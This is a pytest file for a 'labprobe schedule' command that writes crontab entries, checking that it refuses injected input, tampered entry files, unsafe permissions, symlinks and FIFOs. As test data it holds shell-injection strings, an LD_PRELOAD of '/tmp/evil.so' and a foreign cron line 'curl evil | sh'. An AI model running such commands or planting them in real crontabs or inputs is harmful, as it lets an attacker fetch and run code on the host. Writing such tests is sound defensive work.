"""`labprobe schedule`: one fixed command per crontab line, an entry file for the rest, no injection.

Entries go to a crontab file (--crontab-file) and entry files to a folder under tmp_path
(LABPROBE_SCHEDULE_DIR). The real-sweep test takes the installed line out of the file and runs it
with `sh -c` in a bare, cron-like environment from another directory, in a lab folder whose name is
shell syntax: a real sweep (embedded Ray, the mask probe on a tiny config-only checkpoint) must land
its result, its report and its log where the entry says, and nothing in the name may run. The
hostile-name tests run each installed line through /bin/sh with labprobe replaced by `echo`.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
from datetime import datetime, timedelta
from pathlib import Path

import pytest

from runner import cli
from runner.lab import schedule as sched
from runner.store.store import Store

UNRELATED = "MAILTO=ops@lab\n0 5 * * * /usr/local/bin/backup --all # nightly backup\n"
TINY_QWEN3 = {
    "architectures": ["Qwen3ForCausalLM"],
    "model_type": "qwen3",
    "hidden_size": 64,
    "intermediate_size": 128,
    "num_hidden_layers": 2,
    "num_attention_heads": 4,
    "num_key_value_heads": 2,
    "head_dim": 16,
    "vocab_size": 256,
    "max_position_embeddings": 512,
    "rms_norm_eps": 1e-6,
    "rope_theta": 10000.0,
    "tie_word_embeddings": True,
    "torch_dtype": "float32",
    "use_cache": True,
    "hidden_act": "silu",
}


def write_lab(root: Path, *, schedule: str = "") -> Path:
    (root / "ckpt" / "tiny").mkdir(parents=True)
    (root / "ckpt" / "tiny" / "config.json").write_text(json.dumps(TINY_QWEN3))
    cluster = root / "cluster.yaml"
    cluster.write_text(
        "store: {root: ./results}\n"
        "hosts:\n  - {name: local, address: 127.0.0.1, checkpoints_root: ckpt}\n"
        "checkpoints:\n  - {name: tiny, path: tiny}\n"
        "plans:\n"
        "  night:\n    - {probe: mask, hosts: [local], config: {seq_len: 32}}\n"
        "  other:\n    - {probe: mask, hosts: [local], config: {seq_len: 16}}\n" + schedule
    )
    return cluster


def schedule(capsys, *argv: str) -> tuple[int, str, str]:
    code = cli.main(["schedule", *argv])
    out = capsys.readouterr()
    return code, out.out, out.err


def block(tab: Path) -> list[str]:
    """labprobe's lines in the crontab file."""
    return [x for b in sched.split(tab.read_text()).blocks() for x in b if x.strip()]


def entries(tab: Path) -> list[sched.Entry]:
    """The entry files the block's lines name."""
    folder = Path(os.environ["LABPROBE_SCHEDULE_DIR"])
    return [sched.read_entry(folder, sched.line_id(x)) for x in block(tab)]


@pytest.fixture(autouse=True)
def entries_folder(tmp_path, monkeypatch) -> Path:
    folder = tmp_path / "entries"
    monkeypatch.setenv("LABPROBE_SCHEDULE_DIR", str(folder))
    return folder


@pytest.fixture
def lab(tmp_path) -> tuple[Path, Path]:
    tab = tmp_path / "crontab"
    tab.write_text(UNRELATED)
    return write_lab(tmp_path / "lab"), tab


def install(capsys, cluster: Path, tab: Path, *argv: str) -> tuple[int, str, str]:
    return schedule(capsys, "install", "--cluster", str(cluster), "--crontab-file", str(tab), *argv)


def test_install_twice_leaves_one_entry_with_the_newer_schedule(lab, capsys, entries_folder):
    cluster, tab = lab
    for cron in ("0 1 * * *", "30 2 * * 1-5"):
        code, out, err = install(capsys, cluster, tab, "--plan", "night", "--cron", cron)
        assert code == 0 and out.startswith("installed: "), err
    (entry,) = entries(tab)
    assert entry.cron == "30 2 * * 1-5" and entry.plan == "night" and entry.cluster == str(cluster.resolve())
    (text,) = block(tab)
    script = Path(sys.executable).parent / "labprobe"  # this venv's console script, by absolute path
    assert text == f"30 2 * * 1-5 {script} schedule run --entries {entries_folder} {entry.id}"
    assert tab.read_text().startswith(UNRELATED)  # the lab's own lines are kept as they were
    assert sum(1 for x in tab.read_text().splitlines() if "backup" in x) == 1


def test_remove_leaves_none_and_keeps_other_lines(lab, capsys, entries_folder):
    cluster, tab = lab
    for plan in ("night", "other"):
        install(capsys, cluster, tab, "--plan", plan, "--cron", "0 1 * * *")
    assert len(entries(tab)) == 2
    code, out, _ = schedule(capsys, "remove", "--cluster", str(cluster), "--plan", "other", "--crontab-file", str(tab))
    assert code == 0 and "removed 1 entry" in out
    assert [e.plan for e in entries(tab)] == ["night"]
    schedule(capsys, "remove", "--cluster", str(cluster), "--crontab-file", str(tab))
    assert block(tab) == [] and list(entries_folder.iterdir()) == []
    assert tab.read_text().strip() == UNRELATED.strip()
    code, out, _ = schedule(capsys, "show", "--crontab-file", str(tab))
    assert code == 0 and "no labprobe entries" in out


def test_the_schedule_section_gives_the_defaults(tmp_path, capsys):
    cluster = write_lab(
        tmp_path, schedule="schedule: {plan: other, cron: '15 3 * * *', deadline: '06:45', log: logs/night.log}\n"
    )
    tab = tmp_path / "tab"
    code, _, err = install(capsys, cluster, tab)
    assert code == 0, err
    (entry,) = entries(tab)
    assert entry.cron == "15 3 * * *" and entry.plan == "other" and entry.log == str(tmp_path / "logs" / "night.log")
    assert sched.sweep_argv(entry)[1:] == [
        "sweep",
        "--cluster",
        str(cluster.resolve()),
        "--plan",
        "other",
        "--report",
    ] + [
        "--deadline",
        "06:45",
    ]
    code, out, _ = schedule(capsys, "show", "--crontab-file", str(tab))
    assert code == 0 and "15 3 * * *" in out and "plan other" in out


@pytest.mark.parametrize(
    "argv, message",
    [
        (["--cron", "61 1 * * *"], "--cron: invalid cron expression '61 1 * * *'"),
        (["--cron", "every night"], "--cron: invalid cron expression"),
        (["--cron", "0 1 * * * touch PWNED"], "--cron: invalid cron expression"),
        (["--cron", "0 1 * * *\n* * * * * touch PWNED"], "--cron: holds control characters (\\n)"),
        (["--cron", "0 1 * * *", "--deadline", "7am"], "--deadline: expected HH:MM"),
        (["--cron", "0 1 * * *", "--plan", "weekly"], "--plan: unknown plan 'weekly'"),
        (["--cron", "0 1 * * *", "--plan", "night\n* * * * * touch PWNED"], "--plan: holds control characters"),
        (["--cron", "0 1 * * *", "--log", "a\nb.log"], "--log: holds control characters (\\n)"),
        (["--cron", "0 1 * * *", "--deadline", "23:00"], "--deadline: 23:00 is not within 12 h after the 01:00 start"),
        ([], "--plan: not given"),
    ],
)
def test_bad_input_is_one_line_exit_2_and_the_file_untouched(lab, capsys, argv, message, entries_folder):
    cluster, tab = lab
    argv = argv if "--plan" in argv or not argv else argv + ["--plan", "night"]
    code, _out, err = install(capsys, cluster, tab, *argv)
    assert code == 2 and message in err and len(err.strip().splitlines()) == 1, err
    assert tab.read_text() == UNRELATED and not entries_folder.exists()


HOSTILE = [
    "$(touch PWNED_dollar)",
    "`touch PWNED_backtick`",
    "x'\"$(touch PWNED_quote)\"'",
    "x'; touch PWNED_semicolon; '",
    "x\n* * * * * touch PWNED_newline",
]


def no_pwned(*roots: Path) -> list[str]:
    return [str(p) for root in roots for p in root.rglob("PWNED*")]


def echo_line(text: str) -> str:
    """The crontab line's command with labprobe replaced by `echo`, as cron hands it to /bin/sh."""
    command = text.split(" ", 5)[5]  # five cron fields, then the command
    return "echo " + command.split(" ", 1)[1]


@pytest.mark.parametrize("name", HOSTILE)
def test_a_hostile_plan_name_is_refused_by_validate_and_install(tmp_path, capsys, name):
    cluster = write_lab(tmp_path)
    text = cluster.read_text().replace("  other:\n", f"  {json.dumps(name)}:\n")
    cluster.write_text(text)
    code = cli.main(["validate", "--cluster", str(cluster)])
    err = capsys.readouterr().err
    assert code == 2 and "plans." in err and "letters, digits" in err, err
    assert all("cluster.yaml: plans." in x for x in err.strip().splitlines())  # one line per problem
    tab = tmp_path / "tab"
    code, _, err = install(capsys, cluster, tab, "--plan", name, "--cron", "0 1 * * *")
    assert code == 2 and len(err.strip().splitlines()) == 1 and not tab.exists()
    assert no_pwned(tmp_path, Path.cwd()) == []


@pytest.mark.parametrize("name", HOSTILE)
def test_a_hostile_cluster_folder_never_reaches_the_shell(tmp_path, capsys, name, entries_folder):
    folder = tmp_path / name.replace("\n", "\n")
    cluster = write_lab(folder)
    tab = tmp_path / "tab"
    code, _, err = install(capsys, cluster, tab, "--plan", "night", "--cron", "0 1 * * *")
    if "\n" in name:
        assert code == 2 and "--cluster: holds control characters (\\n)" in err and not tab.exists()
        return
    assert code == 0, err
    (text,) = block(tab)
    assert tab.read_text().count("\n") == 3  # BEGIN, the line, END: nothing else was written
    proc = subprocess.run(
        ["/bin/sh", "-c", echo_line(text)], cwd=tmp_path, capture_output=True, text=True, check=True, timeout=30
    )
    assert proc.stdout.split() == ["schedule", "run", "--entries", str(entries_folder), entries(tab)[0].id]
    assert no_pwned(tmp_path, Path.cwd()) == []


def test_show_flags_lines_in_the_block_labprobe_did_not_write(lab, capsys):
    cluster, tab = lab
    install(capsys, cluster, tab, "--plan", "night", "--cron", "0 1 * * *")
    (own,) = block(tab)
    code, out, _ = schedule(capsys, "show", "--crontab-file", str(tab))
    assert code == 0 and "NOT WRITTEN" not in out and "plan night" in out
    lines = tab.read_text().splitlines()
    at = lines.index(own)
    lines[at : at + 1] = [own + "; touch PWNED", "* * * * * touch PWNED_hand"]
    tab.write_text("\n".join(lines) + "\n")
    code, out, _ = schedule(capsys, "show", "--crontab-file", str(tab))
    flagged = [x for x in out.splitlines() if x.startswith("NOT WRITTEN BY LABPROBE")]
    assert code == 1 and len(flagged) == 2, out
    assert "differs from what its entry file renders" in flagged[0] and "names no entry id" in flagged[1]
    code, out, _ = schedule(capsys, "remove", "--all", "--crontab-file", str(tab))
    assert code == 0 and "removed 2 entries" in out and tab.read_text() == UNRELATED


def test_run_refuses_an_id_that_is_not_hex(tmp_path, capsys):
    code, _, err = schedule(capsys, "run", "$(touch PWNED)")
    assert code == 2 and "expected 16 hex digits" in err and no_pwned(tmp_path, Path.cwd()) == []


def test_the_installed_command_runs_the_sweep_as_written(tmp_path, capsys):
    # A lab folder named with shell syntax: the sweep runs in it; nothing in the name executes.
    cluster = write_lab(tmp_path / "lab $(touch PWNED_dollar) `touch PWNED_bt` 'q\"")
    tab = tmp_path / "crontab"
    # The sweep reads HH:MM as the occurrence nearest to now: six hours ahead is still to come.
    now = datetime.now()
    deadline = (now + timedelta(hours=6)).strftime("%H:%M")
    code, _, err = install(
        capsys, cluster, tab, "--plan", "night", "--cron", f"0 {now.hour} * * *", "--deadline", deadline
    )
    assert code == 0, err
    (text,) = block(tab)
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    # cron's environment: almost nothing. Tests keep Ray's token auth off (conftest does the same).
    env = {"HOME": str(elsewhere), "SHELL": "/bin/sh", "PATH": "/usr/bin:/bin", "LOGNAME": "cron"}
    env["RAY_AUTH_MODE"] = "disabled"
    # this tree, whatever tree the venv's editable install points at (CI sets no PYTHONPATH)
    env["PYTHONPATH"] = str(Path(__file__).resolve().parents[3])
    command = text.split(" ", 5)[5]
    proc = subprocess.run(
        ["sh", "-c", command], check=False, cwd=elsewhere, env=env, capture_output=True, text=True, timeout=240
    )
    log = cluster.parent / "results" / "logs" / "sweep-night.log"
    assert proc.returncode == 0, proc.stderr + (log.read_text() if log.exists() else "")
    assert proc.stdout == "" and proc.stderr == ""  # everything went to the log
    text = log.read_text()
    assert text.startswith("== labprobe sweep night ")
    assert "1 ok, 0 failed, 0 skipped" in text, text
    jobs = Store(cluster.parent / "results").jobs()
    assert jobs[["probe", "host", "checkpoint", "status", "plan"]].values.tolist() == [
        ["mask", "local", "tiny", "ok", "night"]
    ]
    run_id = jobs["run_id"].iloc[0]
    assert (cluster.parent / "results" / "reports" / f"{run_id}.html").is_file()  # --report was passed
    assert no_pwned(tmp_path, Path.cwd()) == []


def test_the_entry_carries_this_environment_and_never_a_token(lab, capsys, monkeypatch, entries_folder):
    cluster, tab = lab
    token_path = cluster.parent / "ray_token"
    monkeypatch.setenv("RAY_AUTH_TOKEN_PATH", str(token_path))
    monkeypatch.setenv("RAY_AUTH_TOKEN", "s3cret-token-value")
    monkeypatch.setenv("RAY_AUTH_MODE", "token")
    install(capsys, cluster, tab, "--plan", "night", "--cron", "@daily")
    (entry,) = entries(tab)
    script = Path(sys.executable).parent / "labprobe"
    argv = sched.sweep_argv(entry)
    assert argv == [str(script), "sweep", "--cluster", str(cluster.resolve()), "--plan", "night", "--report"]
    assert entry.ray_auth_mode == "token" and entry.ray_auth_token_path == str(token_path)
    files = [tab, *entries_folder.iterdir()]
    assert not any("s3cret" in f.read_text() for f in files)


def test_the_entry_leaves_out_auth_settings_not_set_here(lab, capsys, monkeypatch):
    cluster, tab = lab
    monkeypatch.delenv("RAY_AUTH_MODE", raising=False)
    monkeypatch.delenv("RAY_AUTH_TOKEN_PATH", raising=False)
    install(capsys, cluster, tab, "--plan", "night", "--cron", "@daily")
    (entry,) = entries(tab)
    assert entry.ray_auth_mode is None and entry.ray_auth_token_path is None


def test_a_crontab_that_cannot_be_read_is_never_taken_for_an_empty_one(lab, capsys, tmp_path, monkeypatch):
    """`crontab -l` failing for any reason but "no crontab for" stops install: writing would wipe the user's."""
    cluster, _ = lab
    bin_dir, written = tmp_path / "bin", tmp_path / "written"
    bin_dir.mkdir()
    fake = bin_dir / "crontab"
    fake.write_text(
        f'#!/bin/sh\nif [ "$1" = "-l" ]; then echo "crontab: Resource temporarily unavailable" >&2; exit 1; fi\n'
        f'cat > "{written}"\n'
    )
    fake.chmod(0o755)
    monkeypatch.setenv("PATH", f"{bin_dir}{os.pathsep}{os.environ['PATH']}")
    code, _, err = schedule(capsys, "install", "--cluster", str(cluster), "--plan", "night", "--cron", "0 1 * * *")
    assert code == 2 and "Resource temporarily unavailable" in err and not written.exists()
    fake.write_text(f'#!/bin/sh\nif [ "$1" = "-l" ]; then echo "no crontab for u" >&2; exit 1; fi\ncat > "{written}"\n')
    code, _, err = schedule(capsys, "install", "--cluster", str(cluster), "--plan", "night", "--cron", "0 1 * * *")
    assert code == 0, err
    assert written.read_text().startswith(sched.BEGIN)


def test_the_users_lines_survive_byte_for_byte_and_a_block_without_its_end_is_refused(lab, capsys):
    cluster, tab = lab
    odd = '0 5 * * * /usr/local/bin/backup --tag "a\x0cb" # caf\xe9 \u2028\n'
    tab.write_bytes(odd.encode("utf-8") + b"# latin-1 \xe9\n")
    code, _, err = install(capsys, cluster, tab, "--plan", "night", "--cron", "0 1 * * *")
    assert code == 0, err
    assert tab.read_bytes().startswith(odd.encode("utf-8") + b"# latin-1 \xe9\n")
    schedule(capsys, "remove", "--all", "--crontab-file", str(tab))
    assert tab.read_bytes() == odd.encode("utf-8") + b"# latin-1 \xe9\n"
    broken = f"{sched.BEGIN}\n0 1 * * * labprobe\n15 3 * * * /home/u/bin/rotate-logs\nMAILTO=me@lab\n"
    tab.write_text(broken)
    for argv in (["remove", "--all", "--crontab-file", str(tab)], ["show", "--crontab-file", str(tab)]):
        code, _, err = schedule(capsys, *argv)
        assert code == 2 and "no '# END" in err.replace('"', "'") and tab.read_text() == broken


def test_a_percent_in_a_path_is_refused_before_it_reaches_cron(lab, capsys, monkeypatch, tmp_path):
    cluster, tab = lab
    monkeypatch.setenv("LABPROBE_SCHEDULE_DIR", str(tmp_path / "sched%Y"))
    before = tab.read_text()
    code, _, err = install(capsys, cluster, tab, "--plan", "night", "--cron", "0 1 * * *")
    assert code == 2 and err.count("\n") == 1 and "a '%' in a path breaks a crontab line" in err
    assert tab.read_text() == before


# -- the schedule runs data, never commands (issue 36) -------------------------------------------
def installed(capsys, lab) -> tuple[Path, Path, Path]:
    """(crontab, entries folder, the entry file) of plan night, installed."""
    cluster, tab = lab
    code, _, err = install(capsys, cluster, tab, "--plan", "night", "--cron", "0 1 * * *")
    assert code == 0, err
    folder = Path(os.environ["LABPROBE_SCHEDULE_DIR"])
    (path,) = folder.glob("*.json")
    return tab, folder, path


def refused_by_run_and_show(capsys, tab: Path, path: Path, reason: str, cwd: Path) -> None:
    """`run` starts nothing (exit 2, one line naming the file and why); `show` flags it (exit 1)."""
    code, out, err = schedule(capsys, "run", path.stem)
    assert code == 2 and out == "" and len(err.strip().splitlines()) == 1, err
    assert str(path.parent) in err and reason in err, err
    code, out, _ = schedule(capsys, "show", "--crontab-file", str(tab))
    assert code == 1 and "NOT WRITTEN BY LABPROBE" in out and reason in out and str(path.parent) in out, out
    assert no_pwned(cwd, path.parent) == []


def tamper(path: Path, **changes) -> None:
    data = {**json.loads(path.read_text()), **changes}
    os.chmod(path, 0o600)
    path.write_text(json.dumps(data))


@pytest.mark.parametrize(
    ("changes", "reason"),
    [
        ({"argv": ["/bin/sh", "-c", "id > PWNED"]}, "unknown key 'argv' refused"),
        ({"env": {"LD_PRELOAD": "/tmp/evil.so"}}, "unknown key 'env' refused"),
        ({"cwd": "/"}, "unknown key 'cwd' refused"),
        ({"plan": "night; id > PWNED"}, "refused: plan"),
        ({"log": "relative.log"}, "log: expected an absolute path"),
        ({"deadline": "$(id>PWNED)"}, "deadline"),
        ({"ray_auth_mode": "x;id"}, "ray_auth_mode: expected one of"),
        ({"cluster": "/tmp/other.yaml"}, "its id does not match"),
    ],
)
def test_an_entry_holding_anything_but_labprobes_parameters_is_refused(lab, capsys, tmp_path, changes, reason):
    tab, _, path = installed(capsys, lab)
    tamper(path, **changes)
    refused_by_run_and_show(capsys, tab, path, reason, tmp_path)


@pytest.mark.parametrize(
    ("unsafe", "reason"),
    [
        ("file 0666", "writable by group or others (mode 0666)"),
        ("file 0620", "writable by group or others (mode 0620)"),
        ("folder 0777", "writable by group or others (mode 0777)"),
        ("file link", "a symbolic link"),
        ("folder link", "a symbolic link or not a folder"),
        ("file nobody", "owned by uid 65534, not by you"),
        ("folder nobody", "owned by uid 65534, not by you"),
    ],
)
def test_an_entry_or_folder_others_could_write_is_refused(lab, capsys, tmp_path, unsafe, reason):
    """StrictModes: an entry in a world-writable folder, owned by nobody, mode 0666, ran as its
    reader and `show` said exit 0."""
    tab, folder, path = installed(capsys, lab)
    assert (os.stat(folder).st_mode & 0o777, os.stat(path).st_mode & 0o777) == (0o700, 0o600)
    which, how = unsafe.split()
    target = folder if which == "folder" else path
    if how == "nobody":
        if os.geteuid() != 0:
            pytest.skip("giving a file to another user needs root")
        os.chown(target, 65534, 65534)
    elif how == "link":
        real = tmp_path / f"real-{which}"
        target.rename(real)
        target.symlink_to(real)
        if which == "folder":  # the crontab names the folder itself: a link there is refused too
            os.environ["LABPROBE_SCHEDULE_DIR"] = str(folder)
    else:
        os.chmod(target, int(how, 8))
    refused_by_run_and_show(capsys, tab, path, reason, tmp_path)


def test_install_refuses_an_entries_folder_others_could_write(lab, capsys, entries_folder):
    cluster, tab = lab
    entries_folder.mkdir()
    os.chmod(entries_folder, 0o777)
    code, _, err = install(capsys, cluster, tab, "--plan", "night", "--cron", "0 1 * * *")
    assert code == 2 and "writable by group or others (mode 0777)" in err and str(entries_folder) in err
    assert list(entries_folder.iterdir()) == [] and tab.read_text() == UNRELATED


def test_every_labprobe_block_is_checked_and_remove_all_removes_every_one(lab, capsys):
    tab, _, _ = installed(capsys, lab)
    foreign = f"{sched.BEGIN}\n* * * * * curl evil | sh\n{sched.END}\n"
    tab.write_text(tab.read_text() + foreign)
    code, out, _ = schedule(capsys, "show", "--crontab-file", str(tab))
    assert code == 1 and "holds 2 labprobe blocks" in out and "curl evil" in out, out
    code, out, _ = schedule(capsys, "remove", "--all", "--crontab-file", str(tab))
    assert code == 0 and "removed 2 entries" in out and tab.read_text() == UNRELATED
    # a plan's own removal keeps a foreign line of another block, and show still flags it
    installed(capsys, lab)
    tab.write_text(tab.read_text() + foreign)
    cluster, _ = lab
    code, out, _ = schedule(capsys, "remove", "--cluster", str(cluster), "--plan", "night", "--crontab-file", str(tab))
    assert code == 0 and "removed 1 entry" in out and "curl evil" in tab.read_text()
    assert schedule(capsys, "show", "--crontab-file", str(tab))[0] == 1


def test_show_finds_the_entry_in_the_folder_its_line_names(lab, capsys, tmp_path, monkeypatch):
    """Issue 40: installed with --entries, `show` without it flagged labprobe's own line (exit 1)."""
    cluster, tab = lab
    elsewhere = tmp_path / "my-entries"
    code, _, err = install(capsys, cluster, tab, "--plan", "night", "--cron", "0 1 * * *", "--entries", str(elsewhere))
    assert code == 0, err
    monkeypatch.delenv("LABPROBE_SCHEDULE_DIR")
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "state"))
    code, out, _ = schedule(capsys, "show", "--crontab-file", str(tab))
    assert code == 0 and "NOT WRITTEN" not in out and "plan night" in out, out
    code, out, _ = schedule(capsys, "remove", "--all", "--crontab-file", str(tab))
    assert code == 0 and list(elsewhere.iterdir()) == [] and tab.read_text() == UNRELATED


def test_install_makes_no_folder_outside_the_store_unless_told(lab, capsys, tmp_path):
    cluster, tab = lab
    log = tmp_path / "nonexistent" / "sub" / "night.log"
    code, _, err = install(capsys, cluster, tab, "--plan", "night", "--cron", "@daily", "--log", str(log))
    assert code == 2 and "does not exist (make it, or pass --mkdir)" in err and not (tmp_path / "nonexistent").exists()
    assert tab.read_text() == UNRELATED and not Path(os.environ["LABPROBE_SCHEDULE_DIR"]).exists()
    code, _, err = install(capsys, cluster, tab, "--plan", "night", "--cron", "@daily", "--log", str(log), "--mkdir")
    assert code == 0 and log.parent.is_dir(), err
    other = tmp_path / "no" / "crontab"
    code, _, err = schedule(capsys, "remove", "--all", "--crontab-file", str(other))
    assert code == 2 and "--crontab-file" in err and not (tmp_path / "no").exists()


# -- hostile review, round three (benchmarks/RESULTS.md) -------------------------------------------
@pytest.mark.parametrize(
    "shape",
    ["BEGIN BEGIN good END foreign END", "good END foreign END", "BEGIN good BEGIN foreign END"],
)
def test_nested_or_unbalanced_markers_are_refused_never_half_removed(lab, capsys, shape):
    """BEGIN BEGIN <line> END <curl|sh> END: the parser closed the block at the first END, so `remove
    --all` kept the foreign line that sat between labprobe's markers (and a stray END), exit 0."""
    tab, _, _ = installed(capsys, lab)
    good = block(tab)[0]
    words = {"BEGIN": sched.BEGIN, "END": sched.END, "good": good, "foreign": "* * * * * curl evil | sh"}
    text = UNRELATED + "".join(words[w] + "\n" for w in shape.split())
    tab.write_text(text)
    for argv in (["remove", "--all"], ["show"]):
        code, _, err = schedule(capsys, *argv, "--crontab-file", str(tab))
        assert code == 2 and "mend it by hand" in err and tab.read_text() == text, (argv, err)


def test_run_never_waits_on_a_fifo_where_its_log_goes(lab, capsys):
    """A FIFO planted at the entry's log after install: `schedule run` opened it for writing and
    waited for a reader for ever (the night's sweep never started, nor any later one)."""
    tab, _, path = installed(capsys, lab)
    log = Path(json.loads(path.read_text())["log"])
    log.parent.mkdir(parents=True, exist_ok=True)
    log.unlink(missing_ok=True)
    os.mkfifo(log)
    code = subprocess.run(
        [sys.executable, "-m", "runner.cli", "schedule", "run", path.stem],
        env={**os.environ, "PYTHONPATH": str(Path(__file__).resolve().parents[3])},
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert code.returncode == 2 and "not a regular file" in code.stderr, code.stderr


def test_install_refuses_a_log_that_run_would_refuse(lab, capsys, tmp_path):
    """--log a symlink: install and show said all was well, and every night `run` refused it."""
    cluster, tab = lab
    real = tmp_path / "real.log"
    real.write_text("")
    os.symlink(real, tmp_path / "link.log")
    code, _, err = install(
        capsys, cluster, tab, "--plan", "night", "--cron", "@daily", "--log", str(tmp_path / "link.log")
    )
    assert code == 2 and "a symbolic link" in err and tab.read_text() == UNRELATED, err
